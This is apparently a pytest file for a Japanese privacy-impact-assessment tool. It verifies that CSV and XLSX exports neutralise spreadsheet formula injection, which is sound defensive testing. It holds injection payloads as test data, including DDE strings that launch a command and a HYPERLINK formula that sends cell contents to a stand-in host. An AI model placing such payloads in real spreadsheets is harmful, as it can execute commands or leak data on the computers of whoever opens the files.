"""Formula injection: every CSV field and XLSX cell written from people's text is inert.

CSV fields that start like a formula get a leading ``'`` (OWASP); XLSX cells are strings,
never formulas, and formula-like ones carry Excel's quote prefix while the visible text stays
as written."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest

from pia.changes.rows import ChangeRow
from pia.document import load_document
from pia.render.api import print_model
from pia.render.results import Column, TableSheet, table_xlsx_bytes
from pia.render.spreadsheet import csv_field, csv_text, formula_like
from pia.render.xlsx import change_rows_xlsx_bytes, xlsx_bytes
from pia.render.xlsx_form import xlsx_form_bytes
from pia.text import clean_text

EXAMPLES = Path(__file__).resolve().parents[3] / "examples"
ATTACKS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"詳細")',
    "=cmd|' /C calc'!A0",
    "+81-96-328-2111",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    '＝HYPERLINK("x")',
    "  =1+1",
    "　＋1",
]
PLAIN = ["熊本市中央区手取本町1-1", "1 + 1 = 2", "住民基本台帳", "", "'=already quoted", "a=b"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_are_recognised(text):
    assert formula_like(text)
    assert csv_field(text) == "'" + clean_text(text)  # control characters dropped (pia.text), quoted
    assert csv_field(text).startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_text_is_left_alone(text):
    assert not formula_like(text)
    assert csv_field(text) == text


def test_csv_text_marks_every_formula_field_and_keeps_the_rest():
    text = csv_text([["氏名", "住所", "意見"], ['=HYPERLINK("x","y")', "=cmd|' /C calc'!A0", "ふつうの, 意見"]])
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["氏名", "住所", "意見"], ['\'=HYPERLINK("x","y")', "'=cmd|' /C calc'!A0", "ふつうの, 意見"]]


def _cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_inert(data: bytes, texts: list[str]) -> None:
    cells = _cells(data)
    assert all(cell.data_type == "s" for cell in cells)  # never a formula ("f")
    found = {cell.value: cell for cell in cells}
    for text in texts:
        shown = text.replace("\r", "\n") if "\r" in text else text  # XML normalises a bare CR
        cell = found.get(text) or found.get(shown)
        assert cell is not None, text
        assert cell.quotePrefix, text
    assert not any(cell.quotePrefix for cell in cells if not formula_like(str(cell.value)))


def test_table_xlsx_cells_are_strings_with_the_quote_prefix():
    rows = [[text, "住民基本台帳"] for text in ATTACKS[:5]]
    data = table_xlsx_bytes(TableSheet("意見", (Column("意見", 40), Column("事務", 20)), rows))
    _assert_inert(data, ATTACKS[:5])


def test_the_change_table_xlsx_is_inert():
    row = ChangeRow(
        date="2026-04-01",
        item="Ⅱ 4.①",
        before="住民基本台帳",
        after="=cmd|' /C calc'!A0",
        timing="事前",
        timing_note="@SUM(1)",
        path="II.file[#a].4.1",
    )
    _assert_inert(change_rows_xlsx_bytes([row]), ["=cmd|' /C calc'!A0", "@SUM(1)"])


def test_the_assessment_xlsx_is_inert():
    """Values of the 評価書 (cover, Ⅱ rows, tables) written by people, in the core's XLSX."""
    document = load_document(EXAMPLES / "jumin-kihon-daicho-v2.yaml")
    document.values["cover.name"] = '=HYPERLINK("x")'
    document.values["cover.tokki"] = "+81-96-328-2111"
    document.values["bessoe1.body"] = "@SUM(1)"
    _assert_inert(xlsx_bytes(print_model(document)), ['=HYPERLINK("x")', "+81-96-328-2111", "@SUM(1)"])


def test_the_form_layout_xlsx_is_inert():
    """The same values in the commission's form layout (merged cells, rich text)."""
    document = load_document(EXAMPLES / "jumin-kihon-daicho-v2.yaml")
    document.values["cover.name"] = '=HYPERLINK("x")'
    document.values["cover.tokki"] = "+81-96-328-2111"
    document.values["bessoe1.body"] = "@SUM(1)"
    _assert_inert(xlsx_form_bytes(print_model(document)), ['=HYPERLINK("x")', "+81-96-328-2111", "@SUM(1)"])
